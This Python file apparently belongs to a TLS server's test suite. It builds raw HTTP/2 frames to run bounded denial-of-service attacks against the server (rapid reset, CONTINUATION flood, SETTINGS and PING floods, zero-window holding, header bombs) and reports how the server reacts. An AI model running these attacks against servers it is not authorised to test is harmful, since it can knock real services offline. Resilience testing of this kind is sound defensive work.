"""Crafted HTTP/2 attacks on a TLS server, for lobe-tls's attack suite.

Frames are built with hyperframe and hpack (the parts of the `h2` package), so that the
attack can break the rules h2's own state machine would enforce. Each attack is bounded
in count and time, and prints one JSON line of what it sent and what the server did.

    h2_attack.py ATTACK --addr HOST:PORT --sni NAME [--source IP] [--count N] [--seconds S]

ATTACK: rapid-reset, continuation, settings, ping, zero-window, header-bomb-many,
header-bomb-large.
"""

import argparse
import json
import select
import socket
import ssl
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


class Conn:
    """A TLS connection speaking raw HTTP/2 frames, with what the server sent so far."""

    def __init__(self, args, settings=None):
        host, port = args.addr.rsplit(":", 1)
        raw = socket.create_connection(
            (host, int(port)), timeout=10, source_address=(args.source, 0)
        )
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        self.sock = ctx.wrap_socket(raw, server_hostname=args.sni)
        if self.sock.selected_alpn_protocol() != "h2":
            raise SystemExit("server did not agree on h2")
        self.sock.setblocking(False)
        self.buf = b""
        self.goaway = None
        self.closed = False
        self.close_reason = None
        self.rst = 0
        self.headers = 0
        self.data = 0
        self.pings_acked = 0
        self.settings_acked = 0
        self.sni = args.sni
        self.encoder = hpack.Encoder()
        self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())

    def send(self, data):
        """Sends all of `data`, reading meanwhile so neither side blocks; False if closed."""
        view = memoryview(data)
        while view and not self.closed:
            try:
                sent = self.sock.send(view)
                view = view[sent:]
            except (ssl.SSLWantWriteError, BlockingIOError):
                select.select([self.sock], [self.sock], [], 0.05)
                self.read(0)
            except (ssl.SSLWantReadError,):
                self.read(0.05)
            except OSError as e:
                # What the server sent before it closed (a GOAWAY) may still be readable.
                self.read(0.05)
                self.closed = True
                self.close_reason = self.close_reason or type(e).__name__
        return not self.closed

    def read(self, wait):
        """Reads what is there (waiting up to `wait` s for something) and parses frames."""
        if self.closed:
            return
        if wait and not self.sock.pending():
            select.select([self.sock], [], [], wait)
        while True:
            try:
                chunk = self.sock.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                break
            except OSError as e:
                self.closed = True
                self.close_reason = type(e).__name__
                break
            if not chunk:
                self.closed = True
                self.close_reason = self.close_reason or "eof"
                break
            self.buf += chunk
        self.parse()

    def parse(self):
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                break
            body, self.buf = self.buf[9 : 9 + length], self.buf[9 + length :]
            try:
                frame.parse_body(memoryview(body))
            except Exception:  # a frame type hyperframe does not know: skip it
                continue
            if isinstance(frame, GoAwayFrame):
                self.goaway = {
                    "last_stream_id": frame.last_stream_id,
                    "error_code": frame.error_code,
                }
            elif isinstance(frame, RstStreamFrame):
                self.rst += 1
            elif isinstance(frame, HeadersFrame):
                self.headers += 1
            elif frame.type == 0:
                self.data += 1
            elif isinstance(frame, PingFrame) and "ACK" in frame.flags:
                self.pings_acked += 1
            elif isinstance(frame, SettingsFrame):
                if "ACK" in frame.flags:
                    self.settings_acked += 1
                else:
                    self.send(SettingsFrame(0, flags=["ACK"]).serialize())

    def request_block(self, path="/page", extra=()):
        # No Huffman coding: hpack's pure-Python coder takes seconds over a 1 MiB value.
        return self.encoder.encode(
            [(":method", "GET"), (":scheme", "https"), (":authority", self.sni), (":path", path)]
            + list(extra),
            huffman=False,
        )

    def done(self):
        return self.closed or self.goaway is not None

    def report(self, **fields):
        fields.update(
            goaway=self.goaway,
            closed=self.closed,
            close_reason=self.close_reason,
            rst_received=self.rst,
            headers_received=self.headers,
        )
        return fields


def rapid_reset_once(args, start, budget):
    """One connection: streams opened and reset at once, in batches, until GOAWAY."""
    conn = Conn(args)
    conn.read(0.2)
    stream, resets = 1, 0
    block = conn.request_block()
    while resets < budget and time.monotonic() - start < args.seconds:
        batch = b""
        for _ in range(10):
            frame = HeadersFrame(stream, data=block, flags=["END_HEADERS", "END_STREAM"])
            batch += frame.serialize() + RstStreamFrame(stream, error_code=CANCEL).serialize()
            stream += 2
            resets += 1
        conn.send(batch)
        conn.read(0)
        if conn.done():
            break
    # What the server answers to what is already on the wire.
    deadline = time.monotonic() + 2
    while not conn.done() and time.monotonic() < deadline:
        conn.read(0.1)
    conn.sock.close()
    # Cut short by the attack's own bounds, not by the server.
    cut_short = not conn.done() and (
        resets >= budget or time.monotonic() - start >= args.seconds
    )
    return conn, resets, cut_short


def rapid_reset(args):
    """Rapid reset on one connection after another, until COUNT resets or SECONDS."""
    start, total, conns, goaways, last_ids, held = time.monotonic(), 0, 0, 0, [], 0
    while total < args.count and time.monotonic() - start < args.seconds:
        conn, resets, cut_short = rapid_reset_once(args, start, args.count - total)
        total += resets
        if cut_short:
            break
        conns += 1
        if conn.goaway is not None:
            goaways += 1
            last_ids.append(conn.goaway["last_stream_id"])
        elif not conn.closed:
            held += 1
    return {
        "connections": conns,
        "resets_sent": total,
        "goaways": goaways,
        "not_closed": held,
        # The most streams the server took on one connection before its GOAWAY.
        "max_last_stream_id": max(last_ids) if last_ids else None,
        "elapsed": time.monotonic() - start,
    }


def continuation(args):
    """One HEADERS without END_HEADERS, then CONTINUATION frames of new headers forever."""
    conn = Conn(args)
    conn.read(0.2)
    start = time.monotonic()
    first = conn.request_block()
    conn.send(HeadersFrame(1, data=first).serialize())
    sent, i = len(first), 0
    while sent < args.count and time.monotonic() - start < args.seconds:
        # A literal header without indexing, a new name each time: the list only grows.
        fragment = b"".join(
            conn.encoder.encode([(f"x-flood-{i}-{j}", "a" * 200)], huffman=False)
            for j in range(20)
        )
        i += 1
        if not conn.send(ContinuationFrame(1, data=fragment).serialize()):
            break
        sent += len(fragment)
        conn.read(0)
        if conn.done() or conn.rst:
            break
    stopped_at = sent
    deadline = time.monotonic() + 3
    while not conn.closed and time.monotonic() < deadline:
        conn.read(0.1)
    return conn.report(
        header_bytes_sent=stopped_at, elapsed=time.monotonic() - start
    )


def flood(args, make):
    """Sends `make(i)` frames in batches while reading the answers, within the bounds."""
    conn = Conn(args)
    conn.read(0.2)
    start, sent = time.monotonic(), 0
    while sent < args.count and time.monotonic() - start < args.seconds:
        batch = b"".join(make(sent + k) for k in range(100))
        if not conn.send(batch):
            break
        sent += 100
        conn.read(0)
        if conn.done():
            break
    deadline = time.monotonic() + 2
    while not conn.closed and time.monotonic() < deadline:
        conn.read(0.1)
    # Still served after the flood? One request on a fresh stream.
    served = None
    if not conn.done():
        before = conn.headers
        conn.send(
            HeadersFrame(1, data=conn.request_block(), flags=["END_HEADERS", "END_STREAM"]).serialize()
        )
        deadline = time.monotonic() + 5
        while not conn.done() and conn.headers == before and time.monotonic() < deadline:
            conn.read(0.1)
        served = conn.headers > before
    return conn.report(
        frames_sent=sent,
        pings_acked=conn.pings_acked,
        settings_acked=conn.settings_acked,
        served_after=served,
        elapsed=time.monotonic() - start,
    )


def settings(args):
    return flood(args, lambda i: SettingsFrame(0, settings={0x4: 65535 + (i % 2)}).serialize())


def ping(args):
    return flood(args, lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize())


def zero_window(args):
    """Asks for many large responses with a zero window and never opens it."""
    conn = Conn(args, settings={0x4: 0, 0x3: 1000})
    conn.read(0.2)
    start, streams = time.monotonic(), 0
    for k in range(args.count):
        stream = 1 + 2 * k
        block = conn.request_block("/sse?n=50000&gap_ms=0")
        conn.send(HeadersFrame(stream, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize())
        streams += 1
    # Hold the streams without reading: no WINDOW_UPDATE, no bytes taken off the socket.
    while time.monotonic() - start < args.seconds:
        time.sleep(0.2)
    conn.read(0.5)
    return conn.report(streams=streams, elapsed=time.monotonic() - start, data_received=conn.data)


def header_bomb(args, headers):
    """One request carrying `headers`, split into HEADERS and CONTINUATION frames."""
    conn = Conn(args)
    conn.read(0.2)
    start = time.monotonic()
    block = conn.request_block(extra=headers)
    chunks = [block[i : i + 16384] for i in range(0, len(block), 16384)]
    frames = b""
    for n, chunk in enumerate(chunks):
        last = n == len(chunks) - 1
        flags = (["END_HEADERS"] if last else []) + (["END_STREAM"] if n == 0 else [])
        frame = HeadersFrame(1, data=chunk, flags=flags) if n == 0 else ContinuationFrame(1, data=chunk, flags=flags)
        frames += frame.serialize()
    conn.send(frames)
    status = None
    deadline = time.monotonic() + 10
    while not conn.done() and conn.rst == 0 and conn.headers == 0 and time.monotonic() < deadline:
        conn.read(0.1)
    if conn.headers:
        status = "answered"
    return conn.report(
        block_bytes=len(block), status=status, elapsed=time.monotonic() - start
    )


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack")
    parser.add_argument("--addr", required=True)
    parser.add_argument("--sni", required=True)
    parser.add_argument("--source", default="127.0.0.1")
    parser.add_argument("--count", type=int, default=10000)
    parser.add_argument("--seconds", type=float, default=10)
    args = parser.parse_args()
    attacks = {
        "rapid-reset": rapid_reset,
        "continuation": continuation,
        "settings": settings,
        "ping": ping,
        "zero-window": zero_window,
        "header-bomb-many": lambda a: header_bomb(a, [(f"x-h{i}", "v") for i in range(10000)]),
        "header-bomb-large": lambda a: header_bomb(a, [("x-large", "a" * (1 << 20))]),
    }
    result = attacks[args.attack](args)
    result["attack"] = args.attack
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
